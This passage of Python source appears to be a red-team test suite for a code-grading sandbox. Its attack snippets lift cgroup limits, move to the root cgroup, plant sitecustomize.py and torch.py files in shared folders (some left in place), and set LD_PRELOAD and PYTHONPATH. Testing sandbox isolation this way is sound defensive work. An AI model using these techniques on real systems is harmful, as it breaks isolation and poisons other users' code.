                for _f, _v in (("memory.limit_in_bytes", "-1"), ("memory.memsw.limit_in_bytes", "-1"),
                               ("pids.max", "max")):
                    if _rt_os.path.exists(_base + _path + "/" + _f) and \\
                            _rt_try(lambda: _rt_write(_base + _path + "/" + _f, _v)):
                        _rt_found(f"wrote {_c}{_path}/{_f}")
                if _rt_try(lambda: _rt_write(_base + "/cgroup.procs", str(_rt_os.getpid()))):
                    _rt_found(f"moved itself to the root {_c} cgroup")
                if _rt_try(lambda: _rt_os.mkdir(f"{_base}/agrt-{_RT_TOKEN}")):
                    _rt_found(f"made a {_c} cgroup")
    ''', needs=("uid",)),

    # ------------------------------------------------------------------ poisoning later submissions
    Attack("poison_sys_path", "poison", '''
        import sysconfig as _rt_sc
        _rt_cwd = _rt_os.getcwd()
        _rt_dirs = [p for p in _rt_sys.path if p] + [_rt_sc.get_paths()[k] for k in ("purelib", "platlib", "stdlib")]
        _rt_dirs += [_rt_os.path.dirname(torch.__file__), _rt_os.path.dirname(_rt_os.__file__)]
        for _d in _rt_dirs:
            if not _rt_os.path.isdir(_d) or _d.startswith(_rt_cwd):   # its own scratch is fine
                continue
            for _f in ("sitecustomize.py", "usercustomize.py", "torch.py"):
                _p = _rt_os.path.join(_d, _f)
                try:                               # created only if absent, removed at once
                    _rt_os.close(_rt_os.open(_p, _rt_os.O_WRONLY | _rt_os.O_CREAT | _rt_os.O_EXCL, 0o644))
                    _rt_os.unlink(_p)
                    _rt_found("could create " + _p)
                except OSError:
                    pass
    ''', needs=UID_FS),
    Attack("modify_the_venv", "poison", '''
        _rt_site = [p for p in _rt_sys.path if p.endswith("site-packages")]
        _rt_files = [torch.__file__, _rt_sys.executable, _rt_os.path.join(_rt_sys.prefix, "pyvenv.cfg")]
        for _s in _rt_site:
            _rt_files += [_rt_os.path.join(_s, n) for n in _rt_os.listdir(_s) if n.endswith(".pth")]
        for _f in _rt_files:
            try:                                   # opened for writing, nothing written
                _rt_os.close(_rt_os.open(_f, _rt_os.O_WRONLY | _rt_os.O_APPEND))
                _rt_found("could write " + _f)
            except OSError:
                pass
            try:
                _rt_os.chmod(_f, _rt_os.stat(_f).st_mode & 0o7777)
                _rt_found("could chmod " + _f)
            except OSError:
                pass
        for _s in _rt_site:
            _p = _rt_os.path.join(_s, f"agrt-{_RT_TOKEN}.pth")
            try:
                _rt_os.close(_rt_os.open(_p, _rt_os.O_WRONLY | _rt_os.O_CREAT | _rt_os.O_EXCL, 0o644))
                _rt_os.unlink(_p)
                _rt_found("could create " + _p)
            except OSError:
                pass
    ''', needs=UID_FS),
    Attack("poison_shared_folders", "poison", '''
        import tempfile as _rt_tempfile
        _rt_poison = f"# agrt {_RT_TOKEN}\\nraise ImportError('poisoned by a red-team submission')\\n"
        _rt_dirs = ["/var/tmp", "/run/lock", "/dev/shm", "/tmp", _rt_tempfile.gettempdir(),
                    _rt_os.path.dirname(_rt_os.getcwd()), _rt_os.path.expanduser("~/.cache"),
                    _rt_os.path.expanduser("~/.local/lib/python3.11/site-packages")]
        for _d in _rt_dirs:
            for _f in ("sitecustomize.py", "usercustomize.py", "torch.py", f"agrt-{_RT_TOKEN}.py"):
                try:
                    _rt_os.makedirs(_d, exist_ok=True)
                    with open(_rt_os.path.join(_d, _f), "x") as _fh:
                        _fh.write(_rt_poison)
                except OSError:
                    pass
    ''', needs=UID_FS),
    Attack("shared_temporary_folder", "poison", '''
        import tempfile as _rt_tempfile
        _rt_tmp = _rt_os.path.realpath(_rt_tempfile.gettempdir())
        if not _rt_tmp.startswith(_rt_os.path.realpath(_rt_os.getcwd())):
            _rt_found(f"the worker's temporary folder is {_rt_tmp}, a host folder shared by every worker")
    ''', needs=FS),
    Attack("leave_environment_variables", "poison", '''
        for _k, _v in (("PYTHONPATH", "/var/tmp"), ("PYTHONSTARTUP", "/var/tmp/sitecustomize.py"),
                       ("LD_PRELOAD", "/var/tmp/agrt.so"), ("AG_ISOLATION", "basic"),
                       ("TMPDIR", "/var/tmp"), ("CUDA_VISIBLE_DEVICES", "")):
            _rt_os.environ[_k] = _v
            _rt_os.putenv(_k, _v)
    '''),
]

BY_NAME = {a.name: a for a in ATTACKS}
assert len(BY_NAME) == len(ATTACKS)
